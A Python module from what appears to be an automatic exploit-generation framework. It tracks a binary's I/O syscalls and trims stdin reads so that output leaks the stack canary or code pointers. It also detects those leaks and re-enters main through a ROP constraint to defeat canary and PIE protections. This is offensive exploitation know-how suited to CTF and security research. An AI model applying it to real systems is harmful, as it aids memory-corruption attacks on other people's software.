"""Per-state I/O timeline and information-leak classification."""

from __future__ import annotations

import enum
import functools
import logging
import re
from dataclasses import dataclass, field, replace
from typing import Any, Dict, List, Optional, Union

from pwnlib.util.packing import p64

from ..memory import ELF_LABEL, HEAP_LABEL, STACK_LABEL, MemoryRegion
from ..registry import ModuleState
from ..utils.binary import checksec
from ..utils.state import SYS_CLOCK_NANOSLEEP, SYS_NANOSLEEP, SYS_READ, SYS_WRITE, SyscallCtx
from . import Module, register_module
from .dynamic_rop import DynamicRop, RegisterConstraint

logger = logging.getLogger(__name__)

STDIN = 0
STDOUT = 1
STDERR = 2

# Leaked user-space pointers have their two high bytes clear; the canary's
# low byte is always NUL, so only its seven high bytes are printable.
POINTER_LEAK_SIZE = 6
CANARY_LEAK_SIZE = 7

_CANARY_LOAD = re.compile(r"(\w+), qword ptr fs:\[0x28\]")


class LeakType(enum.Enum):
    UNKNOWN = 0
    CODE = 1
    LIBC = 2
    HEAP = 3
    STACK = 4
    CANARY = 5

    def __str__(self) -> str:
        return self.name.lower()


@dataclass(frozen=True)
class InputStateInfo:
    buf: bytes
    offset: int


@dataclass(frozen=True)
class OutputStateInfo:
    valid: bool
    buf_index: int = 0
    base_offset: int = 0
    leak_type: LeakType = LeakType.UNKNOWN


@dataclass(frozen=True)
class SleepStateInfo:
    sec: int


StateInfo = Union[InputStateInfo, OutputStateInfo, SleepStateInfo]


def describe_state_info(info: StateInfo) -> str:
    if isinstance(info, InputStateInfo):
        return f"input({info.offset})"
    if isinstance(info, OutputStateInfo):
        if not info.valid:
            return "output"
        return f"output({info.leak_type}@{info.buf_index}, {info.base_offset:#x})"
    if isinstance(info, SleepStateInfo):
        return f"sleep({info.sec})"
    raise TypeError(f"unsupported state info: {info!r}")


def state_info_from_dict(entry: Dict[str, Any]) -> StateInfo:
    """``{"input": n}``, ``{"output": true}`` or ``{"sleep": n}``."""

    kind, value = next(iter(entry.items()))
    if kind == "input":
        return InputStateInfo(b"", int(value))
    if kind == "output":
        return OutputStateInfo(bool(value))
    if kind == "sleep":
        return SleepStateInfo(int(value))
    raise TypeError(f"unsupported state info entry: {entry!r}")


@dataclass(frozen=True)
class PendingInput:
    buf: int
    length: int


@dataclass
class IOStatesState(ModuleState):
    leakable_offset: int = 0
    last_input_state_info_idx: int = 0
    last_input_state_info_idx_before_first_symbolic_rip: int = -1
    current_leak_target_idx: int = 0
    state_info_list: List[StateInfo] = field(default_factory=list)
    pending_input: Optional[PendingInput] = None

    def clone(self) -> "IOStatesState":
        return replace(self, state_info_list=list(self.state_info_list))

    def input_count(self) -> int:
        return sum(isinstance(info, InputStateInfo) for info in self.state_info_list)

    def __str__(self) -> str:
        return "[" + ", ".join(describe_state_info(info) for info in self.state_info_list) + "]"


def _leak_type_of(region: MemoryRegion) -> LeakType:
    if region.module == ELF_LABEL:
        return LeakType.CODE
    if region.module == HEAP_LABEL:
        return LeakType.HEAP
    if region.module == STACK_LABEL:
        return LeakType.STACK
    if region.module.startswith("libc"):
        return LeakType.LIBC
    return LeakType.UNKNOWN


def _find(regions: List[MemoryRegion], address: int) -> Optional[MemoryRegion]:
    for region in regions:
        if address in region:
            return region
    return None


@register_module
class IOStates(Module):
    """Records reads, writes and sleeps and steers reads towards leaks.

    Each leak target (the canary, then the ELF base) must show up in program
    output before the final ROP chain can be injected. While a target is
    outstanding, reads are shortened to end right before the secret so that
    the next write discloses it, and the first hijack re-enters ``main`` to
    get another round of I/O.
    """

    name = "IOStates"

    def __init__(self, session):
        super().__init__(session)
        self.canary: Optional[int] = None

        mitigations = checksec(self.session.exploit.elf)
        self.leak_targets: List[LeakType] = []
        if mitigations.canary:
            self.leak_targets.append(LeakType.CANARY)
        if mitigations.pie:
            self.leak_targets.append(LeakType.CODE)

        self.user_specified_state_info_list: List[StateInfo] = [
            state_info_from_dict(entry) for entry in session.config.user_specified_state_info_list
        ]

        session.before_syscall_hooks.connect(self.before_syscall)
        session.after_syscall_hooks.connect(self.after_syscall)
        session.before_instruction_hooks.connect(self.on_stack_chk_failed)
        session.after_instruction_hooks.connect(self.maybe_intercept_stack_canary)
        session.on_state_fork_module_decide.connect(self.on_state_fork_module_decide)
        session.before_exploit_generation.connect(self.before_exploit_generation)

    def create_state(self) -> IOStatesState:
        return IOStatesState()

    # -- dispatch ----------------------------------------------------------------
    def before_syscall(self, state: Any, syscall: SyscallCtx) -> SyscallCtx:
        if syscall.nr == SYS_READ:
            return self.input_state_hook_top_half(state, syscall)
        if syscall.nr == SYS_WRITE:
            self.output_state_hook(state, syscall)
        elif syscall.nr in (SYS_NANOSLEEP, SYS_CLOCK_NANOSLEEP):
            self.sleep_state_hook(state, syscall)
        return syscall

    def after_syscall(self, state: Any, syscall: SyscallCtx) -> None:
        if syscall.nr == SYS_READ:
            self.input_state_hook_bottom_half(state, syscall)

    def current_leak_target(self, mod_state: IOStatesState) -> Optional[LeakType]:
        if mod_state.current_leak_target_idx < len(self.leak_targets):
            return self.leak_targets[mod_state.current_leak_target_idx]
        return None

    # -- syscall hooks -----------------------------------------------------------
    def input_state_hook_top_half(self, state: Any, syscall: SyscallCtx) -> SyscallCtx:
        if syscall.arg1 != STDIN:
            return syscall

        mod_state = self.get_state(state)
        buf, length = syscall.arg2, syscall.arg3

        scheduled = self._scheduled_input(mod_state)
        if scheduled is not None:
            length = scheduled.offset
        else:
            target = self.current_leak_target(mod_state)
            if target is not None:
                offsets = self.analyze_leak(state, buf, length)[target]
                if offsets:
                    mod_state.leakable_offset = offsets[0]
                    length = mod_state.leakable_offset
                    logger.warning("Reading %d bytes to leak the %s", length, target)
                    # One copy of the state per other candidate offset.
                    for offset in offsets[1:]:
                        self.session.request_fork(
                            state,
                            replace(syscall, arg3=offset),
                            functools.partial(self._retarget_input, offset=offset),
                        )

        mod_state.pending_input = PendingInput(buf, length)
        return replace(syscall, arg3=length)

    def _retarget_input(self, state: Any, offset: int) -> None:
        mod_state = self.get_state(state)
        mod_state.leakable_offset = offset
        if mod_state.pending_input is not None:
            mod_state.pending_input = replace(mod_state.pending_input, length=offset)

    def input_state_hook_bottom_half(self, state: Any, syscall: SyscallCtx) -> None:
        mod_state = self.get_state(state)
        pending = mod_state.pending_input
        if pending is None:
            return
        mod_state.pending_input = None

        # A negative return (error) reads as a huge unsigned value.
        nbytes = syscall.ret if 0 <= syscall.ret <= pending.length else 0
        data = self.session.mem(state).read_concrete(pending.buf, nbytes, concretize=False) if nbytes else b""

        mod_state.last_input_state_info_idx = len(mod_state.state_info_list)
        mod_state.state_info_list.append(InputStateInfo(data, nbytes))

    def output_state_hook(self, state: Any, syscall: SyscallCtx) -> None:
        if syscall.arg1 not in (STDOUT, STDERR):
            return

        mod_state = self.get_state(state)
        target = self.current_leak_target(mod_state)
        leaks = [info for info in self.detect_leak(state, syscall.arg2, syscall.arg3) if info.leak_type == target]

        if leaks:
            info = leaks[0]
            mod_state.current_leak_target_idx += 1
            logger.warning("Detected %s leak at output offset %d", info.leak_type, info.buf_index)
        else:
            info = OutputStateInfo(valid=False)
        mod_state.state_info_list.append(info)

    def sleep_state_hook(self, state: Any, syscall: SyscallCtx) -> None:
        # nanosleep(req, rem) / clock_nanosleep(clock, flags, req, rem)
        req = syscall.arg1 if syscall.nr == SYS_NANOSLEEP else syscall.arg3
        data = self.session.mem(state).read_concrete(req, 8, concretize=True)
        sec = int.from_bytes(data, "little") if data else 0
        self.get_state(state).state_info_list.append(SleepStateInfo(sec))

    def _scheduled_input(self, mod_state: IOStatesState) -> Optional[InputStateInfo]:
        if not self.user_specified_state_info_list:
            return None
        inputs = [info for info in self.user_specified_state_info_list if isinstance(info, InputStateInfo)]
        idx = mod_state.input_count()
        return inputs[idx] if idx < len(inputs) else None

    # -- leak analysis -----------------------------------------------------------
    def analyze_leak(self, state: Any, buf: int, length: int) -> Dict[LeakType, List[int]]:
        """Return, per leak type, read lengths after which ``buf`` abuts a secret."""

        result: Dict[LeakType, List[int]] = {leak_type: [] for leak_type in LeakType}
        mem = self.session.mem(state)

        if self.canary is not None:
            for address in mem.search(p64(self.canary)):
                if buf <= address < buf + length:
                    # Overwrite the canary's NUL low byte as well.
                    result[LeakType.CANARY].append(address - buf + 1)

        regions = mem.get_map_info()
        address = (buf + 7) & ~7
        while address + 8 <= buf + length:
            value = int.from_bytes(mem.read_concrete(address, 8, concretize=False) or b"\x00" * 8, "little")
            region = _find(regions, value)
            if region is not None and region.module == ELF_LABEL:
                result[LeakType.CODE].append(address - buf)
            address += 8
        return result

    def detect_leak(self, state: Any, buf: int, length: int) -> List[OutputStateInfo]:
        """Classify the bytes a write is about to print."""

        mem = self.session.mem(state)
        data = mem.read_concrete(buf, length, concretize=False)
        regions = mem.get_map_info()
        canary_bytes = p64(self.canary)[1:] if self.canary is not None else None

        infos: List[OutputStateInfo] = []
        i = 0
        while i < len(data):
            if canary_bytes is not None and data[i : i + CANARY_LEAK_SIZE] == canary_bytes:
                infos.append(OutputStateInfo(True, i, 0, LeakType.CANARY))
                i += CANARY_LEAK_SIZE
                continue

            window = data[i : i + POINTER_LEAK_SIZE]
            if len(window) == POINTER_LEAK_SIZE:
                value = int.from_bytes(window, "little")
                region = _find(regions, value) if value else None
                leak_type = _leak_type_of(region) if region is not None else LeakType.UNKNOWN
                if leak_type is not LeakType.UNKNOWN:
                    base = region.start
                    if leak_type is not LeakType.STACK:
                        base = min(r.start for r in regions if r.module == region.module)
                    infos.append(OutputStateInfo(True, i, value - base, leak_type))
                    i += POINTER_LEAK_SIZE
                    continue
            i += 1
        return infos

    # -- instruction hooks -------------------------------------------------------
    def maybe_intercept_stack_canary(self, state: Any, insn: Any) -> None:
        if insn.mnemonic != "mov":
            return
        match = _CANARY_LOAD.fullmatch(insn.op_str)
        if match is None:
            return
        canary = self.session.reg(state).read_concrete(match.group(1))
        if canary != self.canary:
            self.canary = canary
            self.session.exploit.emulated_canary = canary
            logger.warning("Intercepted stack canary: %#x", canary)

    def on_stack_chk_failed(self, state: Any, insn: Any) -> None:
        if insn.mnemonic != "call":
            return
        target = self.session.exploit.elf.plt.get("__stack_chk_fail")
        if target is None:
            return
        try:
            address = int(insn.op_str, 16)
        except ValueError:
            return
        if address == target + self.session.exploit.emulated_elf_base - self.session.exploit.link_base:
            logger.warning("__stack_chk_fail() called, the canary was clobbered")
            self.session.terminate_state(state, "stack canary check failed")

    # -- other hooks -------------------------------------------------------------
    def on_state_fork_module_decide(self, state: Any) -> bool:
        return not self.user_specified_state_info_list

    def before_exploit_generation(self, state: Any) -> None:
        mod_state = self.get_state(state)
        if mod_state.last_input_state_info_idx_before_first_symbolic_rip == -1:
            mod_state.last_input_state_info_idx_before_first_symbolic_rip = mod_state.last_input_state_info_idx

        logger.info("I/O states: %s", mod_state)

        if self.current_leak_target(mod_state) is None:
            return

        dynamic_rop = self.session.get_module(DynamicRop)
        elf = self.session.exploit.elf
        if dynamic_rop is None or "main" not in elf.symbols:
            logger.warning("Leak targets outstanding but cannot re-enter main")
            return

        main = elf.symbols["main"] - self.session.exploit.link_base + self.session.exploit.emulated_elf_base
        logger.warning("Re-entering main at %#x to leak the %s", main, self.current_leak_target(mod_state))
        dynamic_rop.add_constraint(RegisterConstraint("rip", main))
        dynamic_rop.commit_constraints(state)


__all__ = [
    "CANARY_LEAK_SIZE",
    "IOStates",
    "IOStatesState",
    "InputStateInfo",
    "LeakType",
    "OutputStateInfo",
    "POINTER_LEAK_SIZE",
    "PendingInput",
    "SleepStateInfo",
    "StateInfo",
    "describe_state_info",
    "state_info_from_dict",
]
